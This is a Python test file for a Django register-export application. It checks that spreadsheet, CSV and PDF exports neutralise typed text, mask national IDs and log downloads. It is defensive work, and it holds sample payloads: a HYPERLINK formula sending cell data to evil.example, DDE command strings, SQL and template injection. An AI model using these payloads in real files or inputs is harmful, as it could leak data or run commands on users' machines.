"""Files that are taken away: what somebody typed is text in them, and says nothing of an id."""

import csv
import io
import re
import zipfile
from dataclasses import replace
from urllib.parse import urlencode

import openpyxl
import pytest
from asking import REGISTERS, content_of, file_words
from build import TODAY, a_pack, a_reading, an_import, an_officer
from django.urls import reverse
from world import OWN, book_of_centre, logged_in

from plodnee.audit.models import AuditEvent
from plodnee.casework.services import plan_centre
from plodnee.documents.builders.plain_cells import RISKY_STARTS
from plodnee.engine.national_id import dashed, make_up
from plodnee.organization.access import OPERATOR
from plodnee.registers.book import Note, PersonName, Problem, Repair
from plodnee.registers.services import stage_reading

pytestmark = pytest.mark.django_db
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"กด")', "+66 81 234 5678", "-2+3", "@SUM(1+1)",
    "\t=1+1", "＝1+1", "|cmd'/c calc'!A0", "=cmd|'/c calc'!A0", "<b>&amp;</b>", "http://evil.example",
    "mailto:a@evil.example", "{{7*7}}", "${7*7}", 'a"b;=1+1', "' OR 1=1 --",
)  # fmt: skip
OUR_FORMULA = re.compile(r"(SUM|SUBTOTAL)\([A-Z0-9:,$]+\)|COUNTA?\([A-Z0-9:$]+\)")
EXTERNAL = re.compile(rb'TargetMode="External"|<hyperlink\b|vbaProject|<ddeLink|externalLink')


@pytest.fixture
def client():
    return logged_in(an_officer("district_officer", "3101"))


def hostile_book():
    """A register in which every free text is something that a spreadsheet might run."""
    book = book_of_centre(OWN)
    homes = tuple(
        replace(home, head=PersonName("", text), main_occupation=text, second_occupation=text)
        for home, text in zip(book.households, HOSTILE, strict=False)
    )
    debts = tuple(
        replace(
            debt,
            borrower=PersonName("", text),
            creditor=text if debt.creditor_kind == "informal" else debt.creditor,
            contract_number=text,
            purpose=text,
            guarantors=f"{text} {dashed(make_up(777))}",
            note=f"{text} {make_up(777)}",
        )
        for debt, text in zip(book.debts, HOSTILE, strict=False)
    )
    groups = (replace(book.groups[0], name=HOSTILE[0]),)
    centre = replace(book.centre, name=HOSTILE[7], chair=HOSTILE[0])
    return replace(book, households=homes, debts=debts, groups=groups, centre=centre)


@pytest.fixture
def centre():
    batch = an_import(hostile_book())
    plan_centre(centre=batch.centre, as_of=TODAY, actor=OPERATOR, on=TODAY)
    return batch.centre


FREE_TEXTS = {  # the columns of each list that hold what somebody typed; the matrix shows all
    "debtors": (
        "borrower", "creditor", "contract_number", "purpose", "guarantors", "note", "centre",
    ),
    "households": ("head", "main_occupation", "second_occupation", "centre"),
    "matrix": (),
}  # fmt: skip


def with_free_texts(address: str, name: str) -> str:
    """The path of a list at an address, with the columns that hold what somebody typed."""
    query = urlencode({"columns": FREE_TEXTS[name]}, doseq=True)
    return f"{reverse(address, args=[OWN, name])}?{query}"


@pytest.mark.parametrize("name", FREE_TEXTS)
def test_no_cell_of_a_list_is_a_formula_or_a_link_and_none_is_left_out(name, client, centre):
    content = content_of(client.get(with_free_texts("centre_list_xlsx", name)))
    cells = [c for row in openpyxl.load_workbook(io.BytesIO(content)).active for c in row]
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]
    typed = {str(cell.value) for cell in cells if cell.data_type == "s"}
    assert any(text.startswith("=") for text in typed)
    for part, part_content in packed(content):
        assert not EXTERNAL.search(part_content), part
    text = content_of(client.get(with_free_texts("centre_list_csv", name))).decode()
    lines = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    found = [cell for line in lines for cell in line]
    assert not [cell for cell in found if cell.lstrip(" ").startswith(RISKY_STARTS)]
    assert any(cell.startswith("'=") for cell in found)


def packed(content: bytes):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            yield name, archive.read(name)


@pytest.mark.parametrize("name", REGISTERS)
def test_no_cell_of_a_register_is_a_formula_or_a_link_that_somebody_typed(name, client, centre):
    content = client.get(reverse("register_file", args=[OWN, name])).content
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    formulas = [str(cell.value) for cell in cells if cell.data_type == "f"]
    assert [text for text in formulas if not OUR_FORMULA.fullmatch(text.lstrip("="))] == []
    assert not [cell.coordinate for cell in cells if cell.hyperlink]
    typed = {cell.value for cell in cells if cell.data_type == "s"}
    assert any(str(text).startswith("=") for text in typed)  # the hostile texts are there, as text
    for part, part_content in packed(content):
        assert not EXTERNAL.search(part_content), part


def test_no_part_of_the_pack_leads_elsewhere_or_runs(client, centre):
    a_pack(centre)
    content = client.get(reverse("pack", args=[OWN])).content
    for name, file in packed(content):
        if name.endswith(".pdf"):
            assert not re.search(rb"/URI\b|/JavaScript|/Launch|/EmbeddedFile", file), name
            continue
        for part, part_content in packed(file):
            assert not EXTERNAL.search(part_content), (name, part)
            if part.endswith(".xlsx"):  # the workbook behind a chart
                inner = b"".join(inside for _, inside in packed(part_content))
                assert b"<f>" not in inner, (name, part)


def test_an_id_in_a_free_text_is_masked_in_every_file_and_on_every_page(client, centre):
    a_pack(centre)
    paths = [reverse("register_file", args=[OWN, name]) for name in REGISTERS]
    paths += [reverse(name, args=[OWN]) for name in ("centre", "households", "deck", "pack")]
    for ending in ("", "_xlsx", "_csv", "_pdf"):
        paths += [reverse(f"centre_list{ending}", args=[OWN, name]) for name in FREE_TEXTS]
        paths += [with_free_texts(f"centre_list{ending}", name) for name in FREE_TEXTS]
    for path in paths:
        reply = client.get(path)
        assert reply.status_code == 200, path
        said = file_words(content_of(reply))
        assert make_up(777) not in said, path
        assert dashed(make_up(777)) not in said, path


def test_a_spreadsheet_takes_no_cell_of_the_list_of_problems_for_a_formula(client):
    rows = [(text, f"{text}!") for text in HOSTILE]
    found = {
        "problems": [
            Problem("ลูกหนี้", "L3", "not_money", "row", text, hint, text) for text, hint in rows
        ],
        "repairs": [Repair("ครัวเรือน", "A2", "code_cleaned", text, hint) for text, hint in rows],
        "notes": [Note(text, None, "unknown_sheet", text) for text, _ in rows],
    }
    reading = a_reading(**{name: tuple(items) for name, items in found.items()})
    batch = stage_reading(reading, actor=OPERATOR, on=TODAY)
    reply = client.get(reverse("problems_csv", args=[batch.pk]))
    lines = list(csv.reader(io.StringIO(reply.content.decode("utf-8-sig"))))
    assert len(lines) == 1 + 3 * len(HOSTILE)
    cells = [cell for line in lines for cell in line]
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(RISKY_STARTS)]
    assert any(cell.startswith("'=") for cell in cells)


def test_markup_that_somebody_typed_is_shown_and_not_run(client, centre):
    for path in (
        reverse("households", args=[OWN]),
        reverse("centre", args=[OWN]),
        *(reverse("centre_list", args=[OWN, name]) for name in FREE_TEXTS),
        "/",
        "/centres/",
    ):
        page = client.get(path).content.decode()
        assert "<b>&amp;" not in page
        assert "<b>" not in page


def test_whoever_takes_persons_away_leaves_a_trace(client, centre):
    a_pack(centre)
    taken = [reverse("register_file", args=[OWN, name]) for name in REGISTERS]
    taken.append(reverse("pack", args=[OWN]))
    for path in taken:
        client.get(path)
    trace = AuditEvent.objects.filter(action="documents.taken")
    assert trace.count() == len(taken)


def test_a_file_is_the_same_to_the_byte_each_time(client, centre):
    path = reverse("register_file", args=[OWN, "plans"])
    assert client.get(path).content == client.get(path).content
